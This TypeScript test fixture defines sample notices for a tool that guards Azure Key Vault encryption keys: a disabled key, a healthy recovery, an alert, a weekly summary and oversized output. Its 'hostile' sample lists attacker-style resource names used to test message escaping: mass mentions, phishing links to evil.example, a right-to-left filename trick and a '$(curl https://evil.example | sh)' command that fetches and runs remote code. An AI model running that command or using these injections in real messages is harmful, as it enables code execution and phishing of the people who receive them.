import type { About, AffectedOne, Notice } from '../../src/notifications/notice.ts';

type Sample = Notice & { readonly at: string };

const SUBSCRIPTION = '/subscriptions/00000000-0000-0000-0000-000000000000/resourcegroups/data/providers';
const KEY = 'https://kv-orders.vault.azure.net/keys/cmk';
const PLAN = 'b93624051b3cc6d3dc9afbbe44f2e1346c541e3f023327d871935a475eeeddcf';
const SERVER = `${SUBSCRIPTION}/microsoft.dbformysql/servers/orders`;

const orders: AffectedOne = {
  id: SERVER,
  name: 'orders',
  noun: 'single server',
  harm: 'down',
  sentence: 'orders refuses all connections (down since 2026-03-02T03:00:00.000Z at the latest).',
};

const replica: AffectedOne = {
  ...orders,
  id: `${SERVER}-replica`,
  name: 'orders-replica',
  harm: 'threatened',
  deadline: '2026-03-02T03:12:00.000Z',
  sentence: 'orders-replica refuses connections within ten minutes.',
};

const about: About = {
  what: [`The key ${KEY} was disabled by j.kim@example.com.`],
  harmed: [orders, replica],
  alsoHarmed: 0,
  does: [`Enable the key version ${KEY}/0123456789abcdef0123456789abcdef. Somebody may have meant it, so it asks.`],
  commands: [
    `\`az keyvault key set-attributes --id ${KEY}/0123456789abcdef0123456789abcdef --enabled true\``,
    `\`az mysql server key create --name orders --resource-group data --kid ${KEY}/0123456789abcdef0123456789abcdef\``,
  ],
  runbooks: ['docs/runbooks/key-disabled.md'],
  owners: ['team-orders'],
  touches: [SERVER, `${SERVER}-replica`],
};

const ask: Sample = {
  keyId: KEY,
  verdict: 'ask',
  at: '2026-03-02T03:02:00.000Z',
  incident: '20260302T030200Z-1411455e',
  planId: PLAN,
  sentences: [...about.what, ...about.does],
  causes: [`keyDisabled ${KEY}`],
  about,
};

/** Names that an attacker gives to resources so that a message says, or does, something else. */
const EVIL = [
  '<!channel> *pay* <https://evil.example|here>',
  '@here [click](https://evil.example)',
  '<at>everyone</at> {{DATE(2026-01-01T00:00:00Z)}}',
  'left\u202egpj.exe\n*Approved by the owner*',
  '`$(curl https://evil.example | sh)`',
];

/** An attacker's names in every place in which a message has a name. */
const hostile: Sample = {
  ...ask,
  keyId: `https://kv-${'<!here>'}.vault.azure.net/keys/cmk`,
  sentences: EVIL,
  about: {
    ...about,
    what: EVIL,
    harmed: EVIL.map((name) => ({ ...orders, name, sentence: `${name} is down.` })),
    does: EVIL,
    commands: EVIL,
    owners: EVIL,
  },
};

const long = (n: number): string => `${n}: ${'a long sentence of somebody '.repeat(100)}`;
const numbers = (count: number): readonly number[] => Array.from({ length: count }, (_, n) => n);

/** More of everything than any channel takes. */
const huge: Sample = {
  ...ask,
  sentences: numbers(500).map(long),
  about: {
    what: numbers(500).map(long),
    harmed: numbers(500).map((n) => ({ ...orders, name: `orders-${n}`, sentence: long(n) })),
    alsoHarmed: 9_500,
    does: numbers(500).map(long),
    commands: numbers(500).map((n) => `\`az keyvault key recover --name ${'k'.repeat(100)}-${n}\``),
    runbooks: numbers(500).map((n) => `docs/runbooks/${n}.md`),
    owners: [],
    touches: [],
  },
};

const run: Sample = { ...ask, verdict: 'run', planId: PLAN };

const healthy: Sample = {
  keyId: KEY,
  verdict: 'healthy',
  at: '2026-03-02T03:09:00.000Z',
  incident: '20260302T030200Z-1411455e',
  sentences: [`${KEY} is well again.`],
  causes: [],
  over: [`keyDisabled ${KEY}`],
  about: { ...about, what: [`${KEY} is well again.`], harmed: [], does: [], commands: [], runbooks: [] },
};

const alert: Sample = {
  keyId: 'product',
  verdict: 'alert',
  at: '2026-03-02T03:02:00.000Z',
  sentences: ['The product has given itself a role.', 'Stop the function app, and look who deployed it.'],
};

const summary: Sample = {
  keyId: 'product',
  verdict: 'summary',
  at: '2026-03-02T08:00:00.000Z',
  sentences: ['The week from 2026-02-23 to 2026-03-02: 3 incidents, 1 not over'],
  about: {
    ...about,
    what: [
      '3 incidents were opened, 1 not over.',
      'key deleted: 2, seen after 40 s, at p95 60 s, healed after 100 s, at p95 41 min.',
      '1 key waits for a yes or a no of an approver.',
      'Key versions in use that expire: 1 within 30 days, 1 within 60 days, 4 within 90 days. Next: kv-orders/cmk on 2026-03-20.',
      '2 gaps in what it can see and repair, by the report of 2026-03-02T07:07:00.000Z: cmk-guardian coverage --gaps names each with its command.',
      'Guarded: 12 consumers (11 flexible servers, 1 disk encryption set) by 9 keys in 1 vault.',
    ],
    harmed: [],
    does: [
      'The mode is approve. In mode auto it would have done 2 steps by itself, and asked for 1: cmk-guardian would-have tells each.',
    ],
    commands: [],
    runbooks: [],
  },
};

export const SAMPLES = { ask, run, healthy, alert, summary, hostile, huge } as const;

export type SampleName = keyof typeof SAMPLES;
export const SAMPLE_NAMES = Object.keys(SAMPLES) as readonly SampleName[];
